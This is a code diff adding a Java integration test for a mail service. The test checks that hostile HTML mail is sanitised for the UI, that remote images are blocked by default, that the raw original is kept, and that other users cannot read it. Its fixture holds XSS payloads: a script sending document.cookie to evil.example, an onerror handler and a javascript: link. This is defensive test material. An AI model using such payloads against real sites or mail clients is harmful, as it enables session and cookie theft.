@@ -430,4 +430,47 @@ class MailFlowsIT {
     static String encode(String text) {
         return URLEncoder.encode(text, StandardCharsets.UTF_8);
     }
+
+    @Test
+    void hostileMailHtmlReachesTheUiDefusedWhileRawKeepsTheOriginal() {
+        Person alice = workspace.person("alice");
+        UUID personal = alice.connect();
+        String address = alice.microsoft().upn().toLowerCase();
+        awaitCurrent(alice, personal);
+
+        String subject = "Invoice " + workspace.suffix;
+        String html = "<html><head><style>@import url(https://evil.example/x.css);</style></head><body>"
+                + "<p>Your invoice is attached.</p><script>fetch('https://evil.example/?c=' + document.cookie)</script>"
+                + "<img src=\"x\" onerror=\"alert(1)\"><img src=\"cid:logo@contoso\" alt=\"Contoso\">"
+                + "<img src=\"https://tracker.example/open.gif?u=42\" width=\"1\" height=\"1\">"
+                + "<p><a href=\"javascript:alert(2)\">Pay now</a></p></body></html>";
+        workspace.tenant.deliverHtml(address, "billing@example.com", subject, html);
+        syncNow(alice, personal);
+        String id = awaitMessage(alice, "q=" + encode(subject), m -> true).get("id").asText();
+
+        JsonNode safe = alice.api().get("/api/v1/messages/" + id).json().get("body");
+        String content = safe.get("content").asText();
+        assertEquals("html", safe.get("contentType").asText());
+        assertFalse(content.toLowerCase().contains("<script"), content);
+        assertFalse(content.toLowerCase().contains("onerror"), content);
+        assertFalse(content.toLowerCase().contains("javascript:"), content);
+        assertFalse(content.contains("evil.example") || content.contains("tracker.example"), content);
+        assertTrue(content.contains("<p>Your invoice is attached.</p>"), content);
+        assertTrue(content.contains("Pay now"), content);
+        assertTrue(content.contains("cid:logo@contoso"), "inline images stay: " + content);
+        assertTrue(safe.get("remoteImagesBlocked").asBoolean(), safe.toString());
+
+        JsonNode withImages = alice.api().get("/api/v1/messages/" + id + "?remoteImages=true").json().get("body");
+        assertTrue(withImages.get("content").asText().contains("https://tracker.example/open.gif?u=42"), withImages.toString());
+        assertFalse(withImages.get("content").asText().toLowerCase().contains("<script"), withImages.toString());
+        assertFalse(withImages.get("remoteImagesBlocked").asBoolean(), withImages.toString());
+
+        JsonNode raw = alice.api().get("/api/v1/messages/" + id + "?raw=true").json().get("body");
+        assertEquals("html", raw.get("contentType").asText());
+        assertEquals(html, raw.get("content").asText(), "raw is the original as stored");
+
+        Person mallory = new TestWorkspace(base).person("mallory");
+        mallory.connect();
+        assertEquals(404, mallory.api().get("/api/v1/messages/" + id + "?raw=true").status(), "raw reads only what the caller may read");
+    }
 }
